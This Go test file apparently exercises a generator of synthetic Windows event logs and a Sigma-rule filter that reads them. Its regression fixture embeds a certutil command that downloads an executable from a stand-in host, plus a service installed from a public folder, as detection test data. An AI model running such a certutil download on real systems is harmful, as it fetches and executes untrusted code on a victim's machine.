package mixgen

import (
	"bytes"
	"encoding/json"
	"fmt"
	"math"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/fluent-bit-sigma/fluent-bit-sigma/filter"
	"github.com/fluent-bit-sigma/fluent-bit-sigma/internal/fixture"
)

// regressionJSON is two evtx_dump events, concatenated as SigmaHQ's
// regression files hold them; the second's EventID carries qualifiers.
const regressionJSON = `{"Event":{"System":{"Provider":{"#attributes":{"Name":"Microsoft-Windows-Sysmon"}},"EventID":1,
"TimeCreated":{"#attributes":{"SystemTime":"2025-11-27T07:40:10.165324Z"}},"EventRecordID":571146,
"Channel":"Microsoft-Windows-Sysmon/Operational","Computer":"lab"},
"EventData":{"Image":"C:\\Windows\\System32\\certutil.exe","CommandLine":"certutil -urlcache -f http://x/a.exe a.exe","ProcessId":4460}}}
{"Event":{"System":{"Provider":{"#attributes":{"Name":"Service Control Manager"}},"EventID":{"#attributes":{"Qualifiers":16384},"#text":7045},
"Channel":"System","Computer":"lab"},"EventData":{"ServiceName":"x","ImagePath":"C:\\Users\\Public\\x.exe"}}}`

func regressionEvents(t *testing.T) []Event {
	t.Helper()
	evs, err := ParseEvtxJSON([]byte(regressionJSON))
	if err != nil {
		t.Fatal(err)
	}
	return evs
}

func TestParseEvtxJSON(t *testing.T) {
	evs := regressionEvents(t)
	if len(evs) != 2 {
		t.Fatalf("got %d events, want 2", len(evs))
	}
	first, second := evs[0], evs[1]
	if first.ID != 1 || first.Channel != "Microsoft-Windows-Sysmon/Operational" || first.Provider != "Microsoft-Windows-Sysmon" ||
		first.Computer != "lab" || first.RecordID != 571146 || first.Time.Year() != 2025 {
		t.Errorf("first event: got %+v", first)
	}
	if got := []string{first.Data[0].K, first.Data[1].K, first.Data[2].K}; strings.Join(got, " ") != "Image CommandLine ProcessId" {
		t.Errorf("key order: got %v, want Image CommandLine ProcessId", got)
	}
	if v, _ := first.Data.Get("ProcessId"); v != int64(4460) {
		t.Errorf("ProcessId: got %#v, want int64 4460", v)
	}
	if second.ID != 7045 || second.Provider != "Service Control Manager" {
		t.Errorf("second event: got id %d provider %q, want 7045 Service Control Manager", second.ID, second.Provider)
	}
	if _, err := ParseEvtxJSON([]byte(`{"Event":{"System":{"EventID":"x"}}}`)); err == nil {
		t.Error("an EventID that is not a number: no error")
	}
	if _, err := ParseEvtxJSON([]byte(`{"Event":{"System":{"EventID":1}}`)); err == nil {
		t.Error("truncated JSON: no error")
	}
}

func TestShares(t *testing.T) {
	const n = 100000
	for _, withRegression := range []bool{true, false} {
		opts := Options{Seed: 7}
		scale := 1.0
		if withRegression {
			opts.Regression = regressionEvents(t)
		} else {
			scale = 1000.0 / 990
		}
		g := New(opts)
		counts := map[Kind]int{}
		for i := 0; i < n; i++ {
			counts[g.Next().Kind]++
		}
		for _, s := range Shares {
			p := s.PerMille / 1000 * scale
			if s.Kind == Regression && !withRegression {
				p = 0
			}
			want := p * n
			// Five standard deviations of a binomial count.
			if tol := 5 * math.Sqrt(n*p*(1-p)); math.Abs(float64(counts[s.Kind])-want) > tol {
				t.Errorf("regression=%v: %s: got %d of %d, want %.0f ± %.0f", withRegression, s.Kind, counts[s.Kind], n, want, tol)
			}
		}
	}
}

func TestDeterministic(t *testing.T) {
	chunk := func(seed uint64) []byte {
		return New(Options{Seed: seed, Regression: regressionEvents(t)}).AppendChunk(nil, 3000, Flat)
	}
	a, b, c := chunk(1), chunk(1), chunk(2)
	if !bytes.Equal(a, b) {
		t.Error("the same seed gave different streams")
	}
	if bytes.Equal(a, c) {
		t.Error("different seeds gave the same stream")
	}
}

// TestFilterReadsEvents runs the filter over a chunk of each shape with one
// rule per kind of event, each on the kind's logsource and a field every
// event of the kind has: every rule must match exactly the events of its
// kind, so the filter recognised each event's logsource and fields.
func TestFilterReadsEvents(t *testing.T) {
	dir := t.TempDir()
	for kind, rule := range kindRules {
		text := fmt.Sprintf("title: %s\nlogsource:\n  product: windows\n  %s\ndetection:\n  selection:\n    %s\n  condition: selection\n",
			kind, rule[0], strings.ReplaceAll(rule[1], "\n", "\n    "))
		if err := os.WriteFile(filepath.Join(dir, string(kind)+".yml"), []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	for _, shape := range []Shape{Flat, Evtx} {
		t.Run(shape.String(), func(t *testing.T) {
			f, err := filter.New(filter.Config{RulePaths: []string{dir}, Strict: true})
			if err != nil {
				t.Fatal(err)
			}
			g := New(Options{Seed: 3})
			var chunk []byte
			want := map[string]uint64{}
			for i := 0; i < 20000; i++ {
				ev := g.Next()
				want[string(ev.Kind)]++
				chunk = fixture.Event(chunk, fixture.Time(ev.Time), nil, Render(shape, ev))
			}
			if _, _, err := f.Process(nil, chunk); err != nil {
				t.Fatalf("Process: %v", err)
			}
			c := f.Counters()
			if c.Records != 20000 || c.Malformed != 0 {
				t.Errorf("got %d records, %d malformed chunks; want 20000, 0", c.Records, c.Malformed)
			}
			got := map[string]uint64{}
			for _, r := range c.Rules {
				got[r.Title] = r.Count
			}
			for kind := range kindRules {
				if got[string(kind)] != want[string(kind)] {
					t.Errorf("%s: rule matched %d events, want %d", kind, got[string(kind)], want[string(kind)])
				}
			}
		})
	}
}

// kindRules are a logsource line and a selection per kind of event.
var kindRules = map[Kind][2]string{
	"sysmon1":        {"category: process_creation", "ParentProcessGuid|startswith: '{9a4e1c2b-'"},
	"sysmon3":        {"category: network_connection", "SourceIp: '10.20.31.142'"},
	"sysmon5":        {"category: process_termination", "ProcessGuid|startswith: '{9a4e1c2b-'"},
	"sysmon7":        {"category: image_load", "ImageLoaded|endswith: '.dll'"},
	"sysmon10":       {"category: process_access", "GrantedAccess|startswith: '0x'"},
	"sysmon11":       {"category: file_event", "TargetFilename|startswith: 'C:\\'"},
	"sysmon12":       {"category: registry_add", "TargetObject|startswith: 'HK'"},
	"sysmon13":       {"category: registry_set", "EventType: SetValue"},
	"sysmon22":       {"category: dns_query", "QueryName|contains: '.'"},
	"sysmon23":       {"category: file_delete", "IsExecutable: 'false'"},
	"security4624":   {"service: security", "EventID: 4624\nImpersonationLevel: '%%1833'"},
	"security4625":   {"service: security", "EventID: 4625\nStatus: '0xc000006d'"},
	"security4688":   {"service: security", "EventID: 4688\nNewProcessName|endswith: '.exe'"},
	"security4663":   {"service: security", "EventID: 4663\nObjectType: File"},
	"security4672":   {"service: security", "EventID: 4672\nPrivilegeList|contains: SeDebugPrivilege"},
	"powershell4104": {"category: ps_script", "ScriptBlockText|contains: Export-ModuleMember"},
	"system7045":     {"service: system", "EventID: 7045\nServiceType|contains: ' mode '"},
}

func TestJSONLines(t *testing.T) {
	for _, shape := range []Shape{Flat, Evtx} {
		g := New(Options{Seed: 5, Regression: regressionEvents(t)})
		var out []byte
		for i := 0; i < 2000; i++ {
			out = AppendJSONLine(out, shape, g.Next())
		}
		lines := bytes.Split(bytes.TrimSuffix(out, []byte("\n")), []byte("\n"))
		if len(lines) != 2000 {
			t.Fatalf("%s: got %d lines, want 2000", shape, len(lines))
		}
		for i, line := range lines {
			var v map[string]any
			if err := json.Unmarshal(line, &v); err != nil {
				t.Fatalf("%s: line %d: %v", shape, i+1, err)
			}
			if _, ok := v["Event"]; ok != (shape == Evtx) {
				t.Fatalf("%s: line %d: Event key present %v", shape, i+1, ok)
			}
		}
	}
}

// TestValues checks the value distributions the package comment promises.
func TestValues(t *testing.T) {
	g := New(Options{Seed: 11})
	var cmds, short, long, scripts int
	hashesRE := regexp.MustCompile(`^SHA1=[0-9A-F]{40},MD5=[0-9A-F]{32},SHA256=[0-9A-F]{64},IMPHASH=[0-9A-F]{32}$`)
	guidRE := regexp.MustCompile(`^\{[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}\}$`)
	for i := 0; i < 100000; i++ {
		ev := g.Next()
		for _, kv := range ev.Data {
			s, _ := kv.V.(string)
			switch kv.K {
			case "CommandLine":
				cmds++
				if len(s) < 20 || len(s) > 2000 {
					t.Errorf("command line of %d bytes: %s", len(s), s)
				}
				if len(s) < 200 {
					short++
				}
				if len(s) > 1000 {
					long++
				}
			case "ScriptBlockText":
				scripts++
				if len(s) < 1024 || len(s) > 16384 {
					t.Errorf("script block of %d bytes", len(s))
				}
			case "Hashes":
				if !hashesRE.MatchString(s) {
					t.Errorf("Hashes %q", s)
				}
			case "ProcessGuid", "ParentProcessGuid", "SourceProcessGUID", "TargetProcessGUID":
				if !guidRE.MatchString(s) {
					t.Errorf("%s %q", kv.K, s)
				}
			}
		}
	}
	if frac := float64(short) / float64(cmds); frac < 0.7 || frac > 0.95 {
		t.Errorf("%.2f of %d command lines under 200 bytes, want most (0.7 to 0.95)", frac, cmds)
	}
	if long == 0 {
		t.Errorf("no command line over 1,000 bytes of %d", cmds)
	}
	if scripts < 500 {
		t.Errorf("got %d script blocks in 100,000 events, want about 1,000", scripts)
	}
}

func TestParseShape(t *testing.T) {
	for _, s := range []Shape{Flat, Evtx} {
		if got, err := ParseShape(strings.ToUpper(s.String())); err != nil || got != s {
			t.Errorf("ParseShape(%q): got %v, %v", s, got, err)
		}
	}
	if _, err := ParseShape("xml"); err == nil {
		t.Error("ParseShape(xml): no error")
	}
}

func TestRenderUserData(t *testing.T) {
	evs, err := ParseEvtxJSON([]byte(`{"Event":{"System":{"Provider":{"#attributes":{"Name":"Microsoft-Windows-WMI-Activity"}},"EventID":5858,
"Channel":"Microsoft-Windows-WMI-Activity/Operational"},"UserData":{"Operation_ClientFailure":{"#attributes":{"xmlns":"x"},"Id":"{0}","ResultCode":"0x80041003"}}}}`))
	if err != nil {
		t.Fatal(err)
	}
	flat := fixture.JSON(Render(Flat, evs[0]))
	if want := `"EventRecordID":0,"Id":"{0}","ResultCode":"0x80041003"}`; !strings.HasSuffix(flat, want) {
		t.Errorf("flat: got %s, want it to end %s", flat, want)
	}
	evtx := fixture.JSON(Render(Evtx, evs[0]))
	if want := `"UserData":{"Operation_ClientFailure":{"#attributes":{"xmlns":"x"},"Id":"{0}","ResultCode":"0x80041003"}}}}`; !strings.HasSuffix(evtx, want) || strings.Contains(evtx, "EventData") {
		t.Errorf("evtx: got %s, want UserData as it was and no EventData", evtx)
	}
}
